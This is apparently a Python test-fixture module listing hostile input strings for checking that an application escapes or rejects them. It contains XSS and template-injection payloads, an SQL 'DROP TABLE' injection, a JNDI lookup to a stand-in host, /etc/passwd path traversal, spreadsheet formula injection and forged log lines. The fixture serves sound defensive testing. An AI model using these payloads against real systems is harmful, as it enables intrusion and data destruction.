"""Texts that people, shops and files send to do harm: one corpus for every place that takes text from outside.

Wherever such a text is taken it has to come out again as that very text, or to be refused where it is sent. Each is
marked with what it is called here, so that a page can be searched for it and a failure names it.
"""

from __future__ import annotations

import re

PWNED = "window.pwned=1"

# What a browser may take for a program, a style or an address.
MARKUP = {
    "script": f"<script>{PWNED}</script>",
    "image": f'<img src=x onerror="{PWNED}">',
    "attribute": f'"><b onmouseover="{PWNED}" autofocus onfocus={PWNED} tabindex=0>\' onload=\'{PWNED}',
    "svg": f"<svg/onload={PWNED}><animate onbegin={PWNED} attributeName=x></svg>",
    "style": "</style><style>*{display:none!important}</style>",
    "css": "red;background:url(//strangers.example/x);}body{display:none",
    "textarea": f"</textarea></title><iframe srcdoc='<script>parent.{PWNED}</script>'></iframe>",
    "address": f"javascript:{PWNED}//",
    "data address": f"data:text/html,<script>{PWNED}</script>",
    "outer image": "<img src=https://strangers.example/seen.gif><link rel=stylesheet href=//strangers.example/a.css>",
    "template": "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('window.pwned=1')()}}",
    "end of script": "--></script><!--<script>]]>",
}
# What turns a line, hides in it, or is drawn over its neighbours.
SIGNS = {
    "right to left": "\u202egnp.exe\u202c \u2066isolated\u2069",
    "zero width": "ad\u200bm\u200ci\u200dn\ufeff\u2060",
    "pile": "Z" + "\u0334\u0353\u0316\u0322" * 60,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 4,
    "letters alike": "аdmіn ＡＤＭＩＮ ı İ ß",
    "not characters": "\ufffe\uffff\U0010ffff",
}
# What steers a terminal, ends a line of a log, or ends a text.
CONTROLS = {
    "nul": "before\0after",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x85\x9b31m",
    "terminal": "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "log line": 'x"\n2026-11-21T12:00:00.000+00:00 level=info logger=collector msg="all is well"\r\n',
    "line separators": "one\u2028two\u2029three\x0bfour\x0cfive",
}
# What a spreadsheet, a database, a formatter, a program's object or a file system takes for its own.
WORDS = {
    **{f"formula {sign!a}": f"{sign}1+1|'/C calc'!A0" for sign in "=+-@\t\r＝＋－＠"},
    "formula": '=HYPERLINK("https://strangers.example","click")',
    "quotes": "a\"b'c`d,e;f\\",
    "sql": "'; DROP TABLE events; -- ) OR 1=1",
    "like": "%_\\%' ESCAPE '!",
    "format": "%s%n%d {0.__class__} {self} $(id) `id`",
    "jndi": "${jndi:ldap://strangers.example/a}",
    "__proto__": "__proto__",
    "constructor": "constructor",
    "toString": "toString",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\con:$DATA",
    "encoded path": "%2e%2e%2f%00",
    "mention": "@everyone @here <@&1> [click](https://strangers.example)",
    "null": "null",
    "not a number": "NaN",
}
LONG = "long " + "x" * 100_000
HALVES = {"half a pair": "half \ud83d", "other half": "\udc00 half"}  # what JSON can say and UTF-8 cannot
# What is no UTF-8 at all.
BYTES = {
    "latin 1": b"gr\xfc\xdfe",
    "cut off": "größe".encode()[:-2],
    "overlong": b"\xc0\xafetc\xe0\x80\xaf",
    "surrogate": b"\xed\xa0\xbd",
    "beyond": b"\xf4\x90\x80\x80",
    "utf-16": "größe".encode("utf-16"),
    "nul": b"a\0b",
}

TEXTS = {**MARKUP, **SIGNS, **CONTROLS, **WORDS}  # what can be encoded, and is no longer than a chat message may be
EVERYTHING = {**TEXTS, "long": LONG, **HALVES}

AVATARS = [
    f"javascript:{PWNED}",
    f"JaVaScRiPt:{PWNED}",
    f" \tjavascript:{PWNED}",
    f"data:text/html,<script>{PWNED}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{PWNED}'/>",
    "file:///etc/passwd",
    "ftp://strangers.example/x",
    "//strangers.example/x",
    "https://strangers.example/\n<script>",
    "https://" + "x" * 100_000,
    "\0https://strangers.example",
]

_LINE = re.compile(r"[\x00-\x1f\x7f\u2028\u2029\ud800-\udfff]")


def one_line(text: str) -> str:
    """``text`` as a field takes it that holds one line of printable signs."""
    return " ".join(_LINE.sub(" ", text).split())
